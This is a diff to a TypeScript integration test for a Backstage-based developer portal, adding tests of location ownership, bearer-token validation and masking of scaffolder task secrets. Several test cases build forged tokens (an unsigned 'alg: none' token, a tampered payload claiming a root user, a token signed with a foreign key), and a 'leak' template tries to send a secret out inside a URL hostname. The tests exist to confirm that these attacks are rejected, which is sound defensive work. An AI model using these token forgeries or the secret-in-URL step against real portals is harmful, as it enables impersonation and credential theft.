@@ -4,7 +4,10 @@ import { httpAuthServiceFactory } from '@backstage/backend-defaults/httpAuth';
 import { permissionsServiceFactory } from '@backstage/backend-defaults/permissions';
 import { permissionsRegistryServiceFactory } from '@backstage/backend-defaults/permissionsRegistry';
 import { userInfoServiceFactory } from '@backstage/backend-defaults/userInfo';
-import { createBackendModule } from '@backstage/backend-plugin-api';
+import {
+  coreServices,
+  createBackendModule,
+} from '@backstage/backend-plugin-api';
 import {
   mockServices,
   startTestBackend,
@@ -26,6 +29,7 @@ import scaffolder from '@backstage/plugin-scaffolder-backend';
 import catalogOwnership from '@causeway/plugin-catalog-backend-module-ownership';
 import featureFlags from '@causeway/plugin-feature-flags-backend';
 import roles from '@causeway/plugin-permission-backend-module-roles';
+import { generateKeyPairSync, sign } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { setTimeout } from 'node:timers/promises';
@@ -116,16 +120,21 @@ const entities: Entity[] = [
       owner: team,
     }),
   ]),
-  {
-    apiVersion: 'scaffolder.backstage.io/v1beta3',
-    kind: 'Template',
-    metadata: entity('Template', 'say-hello', {}).metadata,
-    spec: {
-      type: 'service',
-      owner: 'platform-team',
-      steps: [{ id: 'log', action: 'debug:log', input: { message: 'Hello' } }],
+  template('say-hello', [
+    { id: 'log', action: 'debug:log', input: { message: 'Hello' } },
+  ]),
+  template('leak', [
+    {
+      id: 'log',
+      action: 'debug:log',
+      input: { message: 'The token is ${{ secrets.token }}.' },
     },
-  },
+    {
+      id: 'fail',
+      action: 'fetch:plain',
+      input: { url: 'https://${{ secrets.token }}.invalid/all' },
+    },
+  ]),
 ];
 
 describeWithDatabase('the table of roles (needs a test database)', () => {
@@ -247,6 +256,132 @@ describeWithDatabase('the table of roles (needs a test database)', () => {
     },
   );
 
+  describe('a registered location', () => {
+    const register = async (target: string) => {
+      const { body } = await request(server)
+        .post('/api/catalog/locations')
+        .set('authorization', bearer('ada'))
+        .send({ type: 'url', target })
+        .expect(201);
+      return `/api/catalog/locations/${body.location.id}`;
+    };
+    const as = (name: string, method: 'delete' | 'put', path: string) =>
+      request(server)
+        [method](path)
+        .set('authorization', bearer(name))
+        .send(
+          method === 'put' ? { type: 'url', target: originOf('evil') } : {},
+        );
+
+    it('is unregistered and changed by the owners of what it brought only', async () => {
+      const target = originOf('payments-team-service');
+      const path = await register(target);
+      for (const method of ['delete', 'put'] as const) {
+        const { body } = await as('noor', method, path).expect(403);
+        expect(body.error.message).toBe(
+          `The location '${target}' brings 1 entity, of which you do not own 1`,
+        );
+      }
+      await as('ada', 'delete', path).expect(204);
+    });
+
+    it('that brought nothing is left to platform engineers', async () => {
+      const path = await register(originOf('empty'));
+      await as('ada', 'delete', path).expect(403);
+      await as('pat', 'delete', path).expect(204);
+    });
+
+    it('is not there with an id of another form', async () => {
+      const path = '/api/catalog/locations/probe';
+      const { body } = await as('ada', 'delete', path).expect(404);
+      expect(body.error.message).toBe("No location with the id 'probe'");
+    });
+  });
+
+  it.each<[string, () => string, number]>([
+    ['none', () => '', 401],
+    ['one that is no token', () => 'Bearer x.y.z', 401],
+    [
+      'one of another audience',
+      () => `Bearer ${issued.get('scaffolder')}`,
+      401,
+    ],
+    [
+      'one of another portal',
+      () => {
+        const { privateKey } = generateKeyPairSync('ec', {
+          namedCurve: 'prime256v1',
+        });
+        const header = { alg: 'ES256', typ: 'vnd.backstage.user', kid: 'x' };
+        const claims = { sub: 'user:default/root', exp: 4e9 };
+        const text = `${encode(header)}.${encode(claims)}`;
+        const signature = sign('sha256', Buffer.from(text), {
+          key: privateKey,
+          dsaEncoding: 'ieee-p1363',
+        });
+        return `Bearer ${text}.${signature.toString('base64url')}`;
+      },
+      401,
+    ],
+    [
+      'one with another user in it',
+      () => {
+        const [header, , signature] = String(tokens.get('ada')).split('.');
+        const payload = encode({ sub: 'user:default/root', exp: 4e9 });
+        return `Bearer ${header}.${payload}.${signature}`;
+      },
+      401,
+    ],
+    [
+      'one without a signature',
+      () => {
+        const header = encode({ alg: 'none', typ: 'vnd.backstage.user' });
+        const payload = encode({ sub: 'user:default/root', exp: 4e9 });
+        return `Bearer ${header}.${payload}.`;
+      },
+      401,
+    ],
+    ['one of this audience', () => `Bearer ${issued.get('catalog')}`, 200],
+    ['a valid one', () => bearer('ada'), 200],
+  ])('answers a request with a token, %s', async (_, token, status) => {
+    await request(server)
+      .get('/api/catalog/entities')
+      .set('authorization', token())
+      .expect(status);
+  });
+
+  it('masks the secrets of a task in what the task says and stores', async () => {
+    const secret = 'planted-secret-of-a-task';
+    const { body: task } = await request(server)
+      .post('/api/scaffolder/v2/tasks')
+      .set('authorization', bearer('ada'))
+      .send({
+        templateRef: 'template:default/leak',
+        values: {},
+        secrets: { token: secret },
+      })
+      .expect(201);
+    const read = async (path: string) =>
+      (
+        await request(server)
+          .get(`/api/scaffolder/v2/tasks/${task.id}${path}`)
+          .set('authorization', bearer('ada'))
+          .expect(200)
+      ).text;
+    const deadline = Date.now() + 60_000;
+    while (!(await read('/events')).includes('"completion"')) {
+      if (Date.now() > deadline) {
+        throw new Error('The task has not ended within 60 s');
+      }
+      await setTimeout(100);
+    }
+    const events = await read('/events');
+    expect(events).toContain('info\\u001b[39m: ***"');
+    expect(events).toContain("Reading from '***' is not allowed");
+    expect(events).toContain('"status":"failed"');
+    expect(`${events}${await read('')}`).not.toContain(secret);
+  });
+
   it('has a row here for every permission that a plugin declares', async () => {
     const declared = await Promise.all(
       ['catalog', 'scaffolder', 'feature-flags'].map(async plugin => {
@@ -355,13 +490,26 @@ async function waitForEntities(
   }
 }
 
+/** Tokens of the catalog for other plugins, by their id. */
+const issued = new Map<string, string>();
+
 const catalogOfTheTest = createBackendModule({
   pluginId: 'catalog',
   moduleId: 'of-the-test',
   register(env) {
     env.registerInit({
-      deps: { catalog: catalogProcessingExtensionPoint },
-      async init({ catalog }) {
+      deps: {
+        auth: coreServices.auth,
+        catalog: catalogProcessingExtensionPoint,
+      },
+      async init({ auth, catalog }) {
+        for (const targetPluginId of ['catalog', 'scaffolder']) {
+          const { token } = await auth.getPluginRequestToken({
+            onBehalfOf: await auth.getOwnServiceCredentials(),
+            targetPluginId,
+          });
+          issued.set(targetPluginId, token);
+        }
         catalog.addEntityProvider({
           getProviderName: () => 'of-the-test',
           connect: connection =>
@@ -418,6 +566,21 @@ function entity(kind: string, name: string, spec: JsonObject): Entity {
     },
     spec,
   };
+}
+
+function template(name: string, steps: JsonObject[]): Entity {
+  return {
+    ...entity('Template', name, {
+      type: 'service',
+      owner: 'platform-team',
+      steps,
+    }),
+    apiVersion: 'scaffolder.backstage.io/v1beta3',
+  };
+}
+
+function encode(part: object): string {
+  return Buffer.from(JSON.stringify(part)).toString('base64url');
 }
 
 /** The file that a team's component comes from. */
